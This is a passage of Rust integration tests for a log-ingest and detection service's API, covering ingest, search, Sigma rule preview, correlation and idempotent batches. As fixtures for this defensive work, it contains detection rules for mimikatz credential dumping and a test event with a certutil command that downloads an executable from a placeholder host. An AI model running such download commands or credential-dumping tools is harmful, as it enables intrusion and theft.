//! The log routes over real HTTP: ingest with per-line rejections, ingest tokens and their
//! bindings, search and aggregation, pivots, detections on ingest, incident pivots that propose
//! scope, stats, and rule status and reload.

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::support::{TestApp, answer, spawn_app, spawn_app_with_logs, spawn_app_with_rules};

const RULE: &str = "title: Mimikatz on the command line
id: 0d894093-71bc-43c3-8c4d-ecfa28dcadcc
status: test
logsource:
  product: linux
detection:
  selection:
    command|contains: 'mimikatz'
  condition: selection
level: high
tags:
  - attack.credential_access
  - attack.t1003
";

fn http() -> reqwest::Client {
    reqwest::Client::new()
}

impl TestApp {
    fn url(&self, path: &str) -> String {
        format!("http://{}/api/v1{path}", self.addr)
    }

    async fn send(
        &self,
        token: &str,
        query: &str,
        body: &str,
        content_type: &str,
    ) -> (StatusCode, Value) {
        let resp = http()
            .post(self.url(&format!("/events?{query}")))
            .bearer_auth(token)
            .header("content-type", content_type)
            .body(body.to_owned())
            .send()
            .await
            .unwrap();
        let status = resp.status();
        (status, resp.json().await.unwrap())
    }

    async fn get(&self, token: &str, path: &str) -> (StatusCode, Value) {
        let resp = http()
            .get(self.url(path))
            .bearer_auth(token)
            .send()
            .await
            .unwrap();
        let status = resp.status();
        (status, resp.json().await.unwrap())
    }

    /// The body of a successful GET as text, to compare bytes.
    async fn text(&self, path: &str) -> String {
        let resp = http()
            .get(self.url(path))
            .bearer_auth(&self.responder_token)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::OK, "{path}");
        resp.text().await.unwrap()
    }

    /// Applies an organisation document as the admin: the status and the answer.
    async fn put_org(&self, document: &Value) -> (StatusCode, Value) {
        let resp = http()
            .put(self.url("/org"))
            .bearer_auth(&self.admin_token)
            .json(document)
            .send()
            .await
            .unwrap();
        let status = resp.status();
        (status, resp.json().await.unwrap())
    }

    async fn searchable(&self) {
        let events = self.events.clone();
        tokio::task::spawn_blocking(move || events.refresh().unwrap())
            .await
            .unwrap();
    }

    async fn token(&self, body: Value) -> String {
        let resp = http()
            .post(self.url("/tokens"))
            .bearer_auth(&self.admin_token)
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), StatusCode::CREATED);
        resp.json::<Value>().await.unwrap()["token"]
            .as_str()
            .unwrap()
            .to_owned()
    }
}

fn rules_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("mimikatz.yml"), RULE).unwrap();
    dir
}

#[tokio::test]
async fn a_batch_stores_its_good_events_and_names_each_bad_line() {
    let app = spawn_app().await;
    let body = "{\"message\":\"login ok\",\"user\":{\"name\":\"alice\"},\"@timestamp\":\"2026-11-30T10:00:00Z\"}\n\
                {\"message\": broken\n\
                \n\
                [1,2]\n\
                {\"message\":\"login failed\",\"user\":{\"name\":\"bob\"},\"host\":\"web-2\"}\n";
    let (status, report) = app
        .send(
            &app.responder_token,
            "service=web&tenant=acme",
            body,
            "application/x-ndjson",
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report["stored"], 2);
    let rejected = report["rejected"].as_array().unwrap();
    assert_eq!(rejected.len(), 2);
    assert_eq!(rejected[0]["line"], 2);
    assert!(
        rejected[0]["reason"]
            .as_str()
            .unwrap()
            .contains("invalid JSON")
    );
    assert_eq!(rejected[1]["line"], 4);
    assert!(
        rejected[1]["reason"]
            .as_str()
            .unwrap()
            .contains("not an object")
    );

    app.searchable().await;
    let (status, page) = app
        .get(&app.responder_token, "/events/search?q=user.name:alice")
        .await;
    assert_eq!(status, StatusCode::OK, "{page}");
    assert_eq!(page["total"], 1);
    let event = &page["events"][0];
    assert_eq!(event["service"], "web");
    assert_eq!(event["tenant"], "acme");
    assert_eq!(event["time"], "2026-11-30T10:00:00Z");
    assert_eq!(event["event"]["message"], "login ok");
    // A host missing from the query is read from the event.
    let (_, page) = app
        .get(&app.responder_token, "/events/search?q=host:web-2")
        .await;
    assert_eq!(page["total"], 1);
    let (_, agg) = app
        .get(
            &app.responder_token,
            "/events/search?q=*%20%7C%20count%20by%20service",
        )
        .await;
    assert_eq!(
        agg["aggregation"]["buckets"][0],
        json!({"value": "web", "values": ["web"], "count": 2})
    );
    assert_eq!(agg["aggregation"]["fields"], json!(["service"]));
    let (_, agg) = app
        .get(
            &app.responder_token,
            "/events/search?q=*%20%7C%20count%20by%20service%2C%20host",
        )
        .await;
    assert_eq!(
        agg["aggregation"]["fields"],
        json!(["service", "host"]),
        "{agg}"
    );
    assert_eq!(
        agg["aggregation"]["buckets"][0]["values"][0], "web",
        "{agg}"
    );
}

#[tokio::test]
async fn searches_say_what_they_could_not_see_and_which_fields_no_event_has() {
    // Index commits an hour apart: what is ingested stays unsearchable until a refresh.
    let app = spawn_app_with_logs(
        Vec::new(),
        |_| {},
        |logs| {
            logs.commit_interval = std::time::Duration::from_secs(3600);
        },
    )
    .await;
    let body = "{\"user\":{\"name\":\"alice\"}}\n{\"user\":{\"name\":\"bob\"}}\n";
    let (status, report) = app
        .send(
            &app.responder_token,
            "service=web",
            body,
            "application/x-ndjson",
        )
        .await;
    assert_eq!((status, &report["stored"]), (StatusCode::OK, &json!(2)));
    for path in [
        "/events/search?q=user.name:alice",
        "/events/search?q=*%20%7C%20count%20by%20service",
        "/events/pivot?value=alice",
    ] {
        let (status, answer) = app.get(&app.responder_token, path).await;
        assert_eq!(status, StatusCode::OK, "{answer}");
        assert_eq!(answer["total"], 0, "{path}: {answer}");
        assert_eq!(answer["not_yet_searchable"], 2, "{path}: {answer}");
    }
    // `refresh=wait_for` answers once everything acknowledged is searchable; an empty body
    // does only that.
    let (status, report) = app
        .send(
            &app.responder_token,
            "service=web&refresh=true",
            "",
            "application/x-ndjson",
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{report}");
    assert_eq!(report["error"]["field"], "refresh", "{report}");
    let (status, report) = app
        .send(
            &app.responder_token,
            "service=web&refresh=wait_for",
            "",
            "application/x-ndjson",
        )
        .await;
    assert_eq!((status, &report["stored"]), (StatusCode::OK, &json!(0)));
    let (_, page) = app
        .get(&app.responder_token, "/events/search?q=user.name:alice")
        .await;
    assert_eq!(page["total"], 1, "{page}");
    assert!(page.get("not_yet_searchable").is_none(), "{page}");
    assert!(page.get("warnings").is_none(), "{page}");
    // A field no event has: the query runs and the answer says what was likely meant.
    let (_, page) = app
        .get(&app.responder_token, "/events/search?q=User.Name:alice")
        .await;
    assert_eq!(page["total"], 0, "{page}");
    assert_eq!(
        page["warnings"],
        json!(["no stored event has the field `User.Name`; did you mean `user.name`?"])
    );
    // A leading `-` is text here, though Lucene and Kibana read it as NOT: the answer says so.
    let (_, page) = app
        .get(&app.responder_token, "/events/search?q=-alice%20-1")
        .await;
    assert_eq!(
        page["warnings"],
        json!([
            "`-alice` is searched as text (`-` is no operator here): to leave out the events with `alice`, write NOT alice"
        ]),
        "{page}"
    );
    let (_, pivot) = app
        .get(
            &app.responder_token,
            "/events/pivot?value=alice&field=usr.name",
        )
        .await;
    assert_eq!(
        pivot["warnings"],
        json!(["no stored event has the field `usr.name`; did you mean `user.name`?"])
    );
}

#[tokio::test]
async fn a_json_array_body_is_read_element_by_element() {
    let app = spawn_app().await;
    let body = r#"[{"a":1},{"a":2},"nope"]"#;
    let (status, report) = app
        .send(
            &app.responder_token,
            "service=api",
            body,
            "application/json",
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(report["stored"], 2);
    assert_eq!(report["rejected"][0]["index"], 2);
}

/// An event comes back in the text it was sent in, byte for byte: numbers as written (`1e3`,
/// an integer beyond 64 bits, `1.50`), escapes and spacing kept — in a search, a pivot and a
/// detection alike (they were parsed into a `serde_json::Value` and written again: `1000.0`,
/// `1.2345678901234568e+29`).
#[tokio::test]
async fn events_come_back_in_the_text_they_were_sent_in() {
    let rules = rules_dir();
    let app = spawn_app_with_rules(vec![rules.path().to_owned()], |_| {}).await;
    let line = r#"{"@timestamp":"2026-11-30T10:10:00Z","command":"mimikatz","f":1e3,"exp":1.5e300,"big":123456789012345678901234567890,"s":"caf\u00e9 \/x",  "sp" : 1.50}"#;
    let element = "{\n  \"@timestamp\": \"2026-11-30T10:10:01Z\",\n  \"n\": 1E2\n}";
    let (status, report) = app
        .send(
            &app.responder_token,
            "service=raw",
            line,
            "application/json",
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{report}");
    let (status, report) = app
        .send(
            &app.responder_token,
            "service=raw",
            &format!("[{element}]"),
            "application/json",
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{report}");
    app.searchable().await;
    let window = "from=2026-11-01&to=2026-12-31";
    let search = app
        .text(&format!("/events/search?q=service:raw&{window}"))
        .await;
    assert!(search.contains(&format!("\"event\":{line}")), "{search}");
    assert!(search.contains(&format!("\"event\":{element}")), "{search}");
    let pivot = app
        .text(&format!("/events/pivot?value=mimikatz&{window}"))
        .await;
    assert!(pivot.contains(&format!("\"event\":{line}")), "{pivot}");
    // Still a JSON answer, the event an object in it.
    let parsed: Value = serde_json::from_str(&search).unwrap();
    assert_eq!(parsed["events"][1]["event"]["sp"], 1.5, "{parsed}");
    let (_, detections) = app
        .get(&app.responder_token, &format!("/detections?{window}"))
        .await;
    let id = detections["items"][0]["id"].as_u64().expect("a detection");
    let detail = app.text(&format!("/detections/{id}")).await;
    assert!(detail.contains(&format!("\"event\":{line}")), "{detail}");
}

/// A `text/plain` body of log lines (an access log posted as written) is stored a line per
/// event in the fields of its format, a bad line named by its number.
#[tokio::test]
async fn a_text_body_is_read_in_the_format_of_its_lines() {
    let app = spawn_app().await;
    let body = "203.0.113.9 - - [03/Dec/2026:22:15:10 +0000] \"GET /a?x=1 HTTP/1.1\" 200 5 \"-\" \"curl\"\n\
                not a request\n";
    let (status, report) = app
        .send(
            &app.responder_token,
            "service=web",
            body,
            "text/plain; charset=utf-8",
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report["stored"], 1, "{report}");
    assert_eq!(report["rejected"][0]["line"], 2, "{report}");
    app.searchable().await;
    let (_, found) = app
        .get(&app.responder_token, "/events/search?q=cs-uri-query:x%3D1")
        .await;
    assert_eq!(found["total"], 1, "{found}");
    assert_eq!(found["events"][0]["event"]["c-ip"], "203.0.113.9");
}

/// A text body's times written without an offset are read in the zone `?timezone=` names
/// (each with the offset of its date); a zone that is none, or one given with a JSON body,
/// is refused naming `timezone`, and nothing is stored.
#[tokio::test]
async fn a_text_body_reads_local_times_in_the_zone_named() {
    let app = spawn_app().await;
    let body = "2026/07/03 22:15:10 [alert] 1#1: worker process 1234 exited on signal 6\n\
                2026/12/03 22:15:10 [alert] 1#1: worker process 1235 exited on signal 6\n";
    let (status, report) = app
        .send(
            &app.responder_token,
            "service=web&timezone=Europe/Berlin",
            body,
            "text/plain",
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report["stored"], 2, "{report}");
    for (query, content_type, says) in [
        (
            "service=web&timezone=Mars/Olympus",
            "text/plain",
            "IANA zone name",
        ),
        (
            "service=web&timezone=UTC",
            "application/x-ndjson",
            "text/plain bodies",
        ),
    ] {
        let (status, refused) = app
            .send(&app.responder_token, query, "{\"a\":1}\n", content_type)
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{refused}");
        assert_eq!(refused["error"]["field"], "timezone", "{refused}");
        assert!(refused.to_string().contains(says), "{refused}");
    }
    app.searchable().await;
    let (_, found) = app
        .get(&app.responder_token, "/events/search?q=service:web")
        .await;
    assert_eq!(found["total"], 2, "only the text body was stored: {found}");
    let times: Vec<&str> = found["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["time"].as_str().unwrap())
        .collect();
    assert_eq!(
        times,
        ["2026-12-03T21:15:10Z", "2026-07-03T20:15:10Z"],
        "newest first, each in its own offset: {found}"
    );
}

/// Rules not loaded yet run over the stored events as ingest would have matched them: what
/// they find, newest first, counted in full; nothing recorded. Bad rules, a query with an
/// aggregation and limits out of range are refused naming the field; a cap on the events read
/// says the preview is incomplete.
#[tokio::test]
async fn rules_not_loaded_yet_are_previewed_over_the_stored_events() {
    let app = spawn_app().await;
    let body = "{\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":\"certutil -urlcache -f http://x/a.exe\"}\n\
                {\"Image\":\"C:\\\\Windows\\\\notepad.exe\",\"CommandLine\":\"notepad\"}\n\
                {\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":\"certutil -decode a b\"}\n";
    let (status, report) = app
        .send(
            &app.responder_token,
            "service=edr&host=ws1",
            body,
            "application/x-ndjson",
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{report}");
    assert_eq!(report["stored"], 3, "{report}");
    assert_eq!(
        report["detections"], 0,
        "the loaded rules find nothing: {report}"
    );
    app.searchable().await;
    let rule = "title: Certutil Download\nid: 6c3b1d2e-8f4a-4b5c-9d6e-7f8a9b0c1d2e\nlevel: high\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: urlcache\n  condition: selection\n";
    let viewer = app.viewer_token();
    let preview = |body: Value| {
        let request = http()
            .post(app.url("/rules/preview"))
            .bearer_auth(&viewer)
            .json(&body);
        async move {
            let resp = request.send().await.unwrap();
            (resp.status(), resp.json::<Value>().await.unwrap())
        }
    };
    let (status, found) = preview(json!({"rules": rule})).await;
    assert_eq!(status, StatusCode::OK, "{found}");
    assert_eq!(found["rules"], 1, "{found}");
    assert_eq!(found["events_read"], 3, "{found}");
    assert_eq!(found["complete"], true, "{found}");
    assert_eq!(found["total_matches"], 1, "{found}");
    let hit = &found["matches"][0];
    assert_eq!(hit["rule_title"], "Certutil Download", "{found}");
    assert_eq!(hit["level"], "high", "{found}");
    assert_eq!(hit["event"]["service"], "edr", "{found}");
    assert!(
        hit["event"]["event"]["CommandLine"]
            .as_str()
            .unwrap()
            .contains("urlcache"),
        "{found}"
    );
    // A second rule in the same text, one refused; the query narrows the events read.
    let two = format!(
        "{rule}---\ntitle: Any Certutil\nid: 1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\certutil.exe'\n  condition: selection\n---\ntitle: Broken\ndetection:\n  condition: nothing\n"
    );
    let (status, found) = preview(json!({"rules": two, "q": "certutil", "limit": 1})).await;
    assert_eq!(status, StatusCode::OK, "{found}");
    assert_eq!(found["rules"], 2, "{found}");
    assert_eq!(found["rejected"].as_array().unwrap().len(), 1, "{found}");
    assert_eq!(found["events_read"], 2, "{found}");
    assert_eq!(found["total_matches"], 3, "{found}");
    assert_eq!(found["matches"].as_array().unwrap().len(), 1, "{found}");
    // Which rule is noisy: each with its matches, the most first.
    let per_rule: Vec<(&str, u64)> = found["per_rule"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["rule_title"].as_str().unwrap(),
                r["matches"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        per_rule,
        [("Any Certutil", 2), ("Certutil Download", 1)],
        "{found}"
    );
    let (_, capped) = preview(json!({"rules": rule, "max_events": 1})).await;
    assert_eq!(
        (&capped["events_read"], &capped["complete"]),
        (&json!(1), &json!(false)),
        "{capped}"
    );
    for (body, field) in [
        (json!({"rules": "title: x\n"}), "rules"),
        (json!({"rules": rule, "q": "* | count by host"}), "q"),
        (json!({"rules": rule, "limit": 0}), "limit"),
        (json!({"rules": rule, "max_events": 0}), "max_events"),
        (json!({"rules": rule, "from": "yesterday"}), "from"),
    ] {
        let (status, refused) = preview(body).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{refused}");
        assert_eq!(refused["error"]["field"], field, "{refused}");
    }
    let (_, detections) = app.get(&viewer, "/detections").await;
    assert_eq!(
        detections["items"].as_array().map(Vec::len),
        Some(0),
        "a preview records nothing: {detections}"
    );
}

/// A correlation rule sent for preview is evaluated over the matched events of the window,
/// oldest first, each tenant apart; its base rule only feeds it.
#[tokio::test]
async fn correlation_rules_are_previewed_over_the_stored_events_per_tenant() {
    let app = spawn_app().await;
    let minutes_ago = |m: i64| {
        (chrono::Utc::now() - chrono::Duration::minutes(m))
            .to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
    };
    let line = |user: &str, ago: i64| {
        format!(
            "{{\"@timestamp\":\"{}\",\"user\":\"{user}\",\"message\":\"Failed password for {user}\"}}\n",
            minutes_ago(ago)
        )
    };
    for (tenant, body) in [
        (
            "acme",
            line("root", 30) + &line("root", 29) + &line("alice", 28),
        ),
        ("globex", line("root", 27) + &line("root", 26)),
        // The third failure of root at acme, sent last but not the newest.
        ("acme", line("root", 27)),
        (
            "acme",
            "{\"message\":\"Accepted password for root\"}\n".to_owned(),
        ),
    ] {
        let (status, report) = app
            .send(
                &app.responder_token,
                &format!("service=bastion&tenant={tenant}"),
                &body,
                "application/x-ndjson",
            )
            .await;
        assert_eq!(status, StatusCode::OK, "{report}");
    }
    app.searchable().await;
    let rules = BRUTE_FORCE;
    let resp = http()
        .post(app.url("/rules/preview"))
        .bearer_auth(app.viewer_token())
        .json(&json!({"rules": rules}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let found: Value = resp.json().await.unwrap();
    assert_eq!(found["rules"], 2, "{found}");
    assert_eq!(found["correlations"], 1, "{found}");
    assert_eq!(found["events_read"], 7, "{found}");
    assert!(found.get("correlated_from").is_none(), "{found}");
    // root at acme only: globex's two and alice's one do not add up with them.
    assert_eq!(found["total_matches"], 1, "{found}");
    let hit = &found["matches"][0];
    assert_eq!(
        hit["rule_title"], "Brute force against one account",
        "{found}"
    );
    assert_eq!(hit["level"], "high", "{found}");
    assert_eq!(hit["event"]["tenant"], "acme", "{found}");
    assert_eq!(hit["event"]["event"]["user"], "root", "{found}");
    let correlation = &hit["correlation"];
    assert_eq!(correlation["group"], "user=root", "{found}");
    assert_eq!(
        correlation["note"], "3 events for user=root within 5m",
        "{found}"
    );
    let ids = correlation["event_ids"].as_array().unwrap();
    assert_eq!(ids.len(), 3, "{found}");
    assert_eq!(
        hit["event"]["id"], ids[2],
        "the last event completed it: {found}"
    );
    // A narrower window (the last 28 minutes) holds only one failure of root at acme.
    let resp = http()
        .post(app.url("/rules/preview"))
        .bearer_auth(app.viewer_token())
        .json(&json!({"rules": rules, "from": minutes_ago(28)}))
        .send()
        .await
        .unwrap();
    let found: Value = resp.json().await.unwrap();
    assert_eq!(found["total_matches"], 0, "{found}");
    let (_, detections) = app.get(&app.viewer_token(), "/detections").await;
    assert_eq!(
        detections["items"].as_array().map(Vec::len),
        Some(0),
        "a preview records nothing: {detections}"
    );
}

/// A rule known to be noisy here is turned off in the organisation document: its matches are
/// no longer recorded or alerted, while a correlation that counts them still fires; turning
/// every rule off is refused naming the field.
#[tokio::test]
async fn the_organisation_turns_a_noisy_rule_off() {
    let rules = tempfile::tempdir().unwrap();
    std::fs::write(
        rules.path().join("r.yml"),
        "title: Credential dumping tool
id: 5f1a3c52-0b7e-4d0a-9f8e-2c4d6e8f0a11
name: dumping
logsource:
  product: linux
detection:
  selection:
    command|contains: 'mimikatz'
  condition: selection
level: high
---
title: Dumping twice
id: 5f1a3c52-0b7e-4d0a-9f8e-2c4d6e8f0a12
correlation:
  type: event_count
  rules: [dumping]
  generate: true
  group-by: [host]
  timespan: 1h
  condition:
    gte: 2
level: critical
",
    )
    .unwrap();
    let app = spawn_app_with_rules(vec![rules.path().to_owned()], |_| {}).await;
    let send = |host: &str| {
        let body = format!("{{\"command\":\"mimikatz\",\"host\":\"{host}\"}}\n");
        let app = &app;
        async move {
            let (status, report) = app
                .send(
                    &app.responder_token,
                    "service=web",
                    &body,
                    "application/x-ndjson",
                )
                .await;
            assert_eq!(status, StatusCode::OK, "{report}");
            report
        }
    };
    let noisy = "5f1a3c52-0b7e-4d0a-9f8e-2c4d6e8f0a11";
    let (status, body) = app
        .put_org(&json!({"alerting": [{"rule_id": noisy, "enabled": false}]}))
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["rules_turned_off"], 1, "{body}");
    let (_, rules_status) = app.get(&app.responder_token, "/rules").await;
    assert_eq!(
        rules_status["turned_off"],
        json!([{"rule_id": noisy, "title": "Credential dumping tool"}]),
        "{rules_status}"
    );
    let first = send("pc-1").await;
    assert_eq!(
        (&first["detections"], &first["alerts"]),
        (&json!(0), &json!(0)),
        "{first}"
    );
    // The second match completes the correlation, which is not turned off.
    let second = send("pc-1").await;
    assert_eq!(second["detections"], 1, "{second}");
    let (_, detections) = app.get(&app.responder_token, "/detections").await;
    let titles: Vec<&str> = detections["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["rule_title"].as_str().unwrap())
        .collect();
    assert_eq!(titles, ["Dumping twice"], "{detections}");
    // A misspelt id turns nothing off, and the answer says so; the rule records its matches
    // again.
    let (status, body) = app
        .put_org(&json!({"alerting": [{"rule_id": "5f1a3c52", "enabled": false}]}))
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(
        body["warnings"][0]
            .as_str()
            .unwrap()
            .starts_with("alerting[0].rule_id: no loaded rule has the id \"5f1a3c52\""),
        "{body}"
    );
    assert_eq!(send("pc-2").await["detections"], 1);
    let (status, body) = app
        .put_org(&json!({"alerting": [{"rule_id": "*", "enabled": false}]}))
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(body["error"]["field"], "alerting[0].enabled", "{body}");
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(data).unwrap();
    gz.finish().unwrap()
}

#[tokio::test]
async fn a_body_of_more_events_than_a_request_may_hold_is_refused_whole() {
    let app = crate::support::spawn_app().await;
    let max = vigil_ingest::pipeline::MAX_BODY_EVENTS;
    let post = |body: String, content_type: &'static str| {
        http()
            .post(app.url("/events?service=shipper"))
            .bearer_auth(&app.responder_token)
            .header("content-type", content_type)
            .body(body)
            .send()
    };
    let lines = |n: usize| "{}\n".repeat(n);
    let array = |n: usize| format!("[{}]", vec!["{\"a\":[1,2]}"; n].join(","));
    for (body, content_type) in [
        (lines(max + 1), "application/x-ndjson"),
        (array(max + 1), "application/json"),
    ] {
        let resp = post(body, content_type).await.unwrap();
        assert_eq!(resp.status(), StatusCode::PAYLOAD_TOO_LARGE);
        let err: Value = resp.json().await.unwrap();
        assert!(
            err["error"]["message"]
                .as_str()
                .unwrap()
                .contains(&format!("more than {max} events")),
            "{err}"
        );
    }
    // As many as it may hold are taken.
    let resp = post(array(max), "application/json").await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let report: Value = resp.json().await.unwrap();
    assert_eq!(report["stored"], max, "{}", report["stored"]);
}

#[tokio::test]
async fn a_gzip_body_is_decompressed_within_the_size_limit() {
    let app = crate::support::spawn_app_with(|s| s.ingest_body_limit = 64 * 1024).await;
    let post = |body: Vec<u8>, encoding: &'static str| {
        http()
            .post(app.url("/events?service=shipper"))
            .bearer_auth(&app.responder_token)
            .header("content-type", "application/x-ndjson")
            .header("content-encoding", encoding)
            .body(body)
            .send()
    };
    let lines = "{\"msg\":\"one\"}\n{\"msg\":\"two\"}\nbroken\n";
    let resp = post(gzip(lines.as_bytes()), "gzip").await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let report: Value = resp.json().await.unwrap();
    assert_eq!(report["stored"], 2, "{report}");
    assert_eq!(report["rejected"][0]["line"], 3, "{report}");
    // A body that is not gzip, one that inflates past the limit, and an encoding the server
    // does not read: each refused with its reason, nothing stored.
    let refusals = [
        (
            post(b"not gzip".to_vec(), "gzip"),
            StatusCode::BAD_REQUEST,
            "not valid gzip",
        ),
        (
            post(gzip(&vec![b' '; 1024 * 1024]), "gzip"),
            StatusCode::PAYLOAD_TOO_LARGE,
            "decompresses to more",
        ),
        (
            post(lines.as_bytes().to_vec(), "br"),
            StatusCode::BAD_REQUEST,
            "`br` is not supported",
        ),
    ];
    for (request, status, reason) in refusals {
        let resp = request.await.unwrap();
        assert_eq!(resp.status(), status);
        let err: Value = resp.json().await.unwrap();
        assert!(
            err["error"]["message"].as_str().unwrap().contains(reason),
            "{err}"
        );
    }
    app.searchable().await;
    let (_, stats) = app.get(&app.responder_token, "/events/stats").await;
    assert_eq!(stats["total_events"], 2, "{stats}");
}

/// Storage stats tell a service owner whether each source is sending: when the server last
/// received its events, whether it is watched for silence, and the alert of a silence — a
/// watched service never heard from is listed with nothing stored.
#[tokio::test]
async fn storage_stats_show_when_each_service_last_sent_and_its_silence() {
    let app = spawn_app().await;
    let org = json!({
        "people": [{"name": "alice"}],
        "teams": [{"name": "platform", "members": ["alice"]}],
        "services": [
            {"name": "web", "team": "platform", "silent_after": "15m"},
            {"name": "ledger", "team": "platform", "silent_after": "1h"},
        ]
    });
    assert_eq!(app.put_org(&org).await.0, StatusCode::OK);
    let before = chrono::Utc::now();
    for service in ["web", "dns"] {
        let (status, _) = app
            .send(
                &app.responder_token,
                &format!("service={service}&host=h1"),
                "{\"message\":\"hello\"}\n",
                "application/x-ndjson",
            )
            .await;
        assert_eq!(status, StatusCode::OK);
    }
    app.searchable().await;
    // The ledger has sent nothing for more than its hour.
    let report = app
        .ingestor
        .check_silence(chrono::Utc::now() + chrono::Duration::minutes(61))
        .await
        .unwrap();
    let ledger_alert = report
        .raised
        .iter()
        .find(|(s, _)| s == "ledger")
        .map(|(_, id)| format!("ALR-{id}"))
        .expect("the ledger is silent");
    let (status, stats) = app.get(&app.viewer_token(), "/events/stats").await;
    assert_eq!(status, StatusCode::OK);
    let service = |name: &str| -> Value {
        stats["services"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["service"] == name)
            .unwrap_or_else(|| panic!("{name} missing from {stats}"))
            .clone()
    };
    let web = service("web");
    assert_eq!(
        (web["events"].as_u64(), web["silent_after"].as_str()),
        (Some(1), Some("15m"))
    );
    let received: chrono::DateTime<chrono::Utc> =
        serde_json::from_value(web["received"].clone()).unwrap();
    assert!(received >= before - chrono::Duration::seconds(1), "{web}");
    let dns = service("dns");
    assert!(
        dns.get("silent_after").is_none() && dns["received"].is_string(),
        "{dns}"
    );
    let ledger = service("ledger");
    assert_eq!(
        (
            ledger["events"].as_u64(),
            ledger["silent_after"].as_str(),
            ledger["silence_alert"].as_str()
        ),
        (Some(0), Some("1h"), Some(ledger_alert.as_str())),
        "{ledger}"
    );
    assert!(ledger.get("received").is_none(), "{ledger}");
    assert_eq!(stats["total_events"], 2, "{stats}");

    // The alerts of silent sources, listed apart from the detections' (web and the ledger
    // were both silent an hour on).
    let (status, silences) = app.get(&app.viewer_token(), "/alerts?source=monitor").await;
    assert_eq!(status, StatusCode::OK, "{silences}");
    let services: Vec<&str> = silences["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["service"].as_str().unwrap())
        .collect();
    assert_eq!(services, ["ledger", "web"], "newest first: {silences}");
    let (status, refused) = app.get(&app.viewer_token(), "/alerts?source=robot").await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{refused}");
    assert!(refused.to_string().contains("source"), "{refused}");
}

/// A batch sent again under its Idempotency-Key (its answer was lost) gets the first answer
/// and is stored once; the key cannot name another batch; keys of one token are not
/// another's; a bad key is refused naming the header.
#[tokio::test]
async fn a_batch_sent_again_with_its_idempotency_key_is_stored_once() {
    let app = spawn_app().await;
    let shipper = app
        .token(json!({"name": "shipper", "role": "ingest", "service": "web"}))
        .await;
    let post = |token: &str, key: &str, body: &'static str| {
        http()
            .post(app.url("/events?host=w1"))
            .bearer_auth(token)
            .header("content-type", "application/x-ndjson")
            .header("idempotency-key", key)
            .body(body)
            .send()
    };
    let batch = "{\"msg\":\"one\"}\n{\"msg\":\"two\"}\nbroken\n";
    let first = post(&shipper, "batch-0001", batch).await.unwrap();
    assert_eq!(first.status(), StatusCode::OK);
    assert!(first.headers().get("idempotent-replayed").is_none());
    let first: Value = first.json().await.unwrap();
    assert_eq!(first["stored"], 2, "{first}");
    let again = post(&shipper, "batch-0001", batch).await.unwrap();
    assert_eq!(again.status(), StatusCode::OK);
    assert_eq!(again.headers()["idempotent-replayed"], "true");
    let again: Value = again.json().await.unwrap();
    assert_eq!(again, first);
    // The same key for other events is refused, naming the header.
    let other = post(&shipper, "batch-0001", "{\"msg\":\"three\"}\n")
        .await
        .unwrap();
    assert_eq!(other.status(), StatusCode::BAD_REQUEST);
    let err: Value = other.json().await.unwrap();
    assert_eq!(err["error"]["field"], "Idempotency-Key", "{err}");
    // Another sender's key of the same name is its own.
    let second = app
        .token(json!({"name": "shipper-2", "role": "ingest", "service": "web"}))
        .await;
    let theirs: Value = post(&second, "batch-0001", batch)
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(theirs["stored"], 2, "{theirs}");
    for bad in ["", "has space", &"k".repeat(256)] {
        let resp = post(&shipper, bad, batch).await.unwrap();
        assert_eq!(resp.status(), StatusCode::BAD_REQUEST, "{bad:?}");
    }
    app.searchable().await;
    let (_, stats) = app.get(&app.responder_token, "/events/stats").await;
    assert_eq!(stats["total_events"], 4, "{stats}");
}

/// A keyed batch whose answer the database refused to record (500, its events stored) is not
/// stored again when sent again: refused again while the database still refuses, then given
/// the answer it would have had.
#[tokio::test]
async fn a_batch_whose_answer_was_refused_is_stored_once_when_sent_again() {
    let app = spawn_app().await;
    let shipper = app
        .token(json!({"name": "shipper", "role": "ingest", "service": "web"}))
        .await;
    let post = || {
        http()
            .post(app.url("/events?host=w1"))
            .bearer_auth(&shipper)
            .header("content-type", "application/x-ndjson")
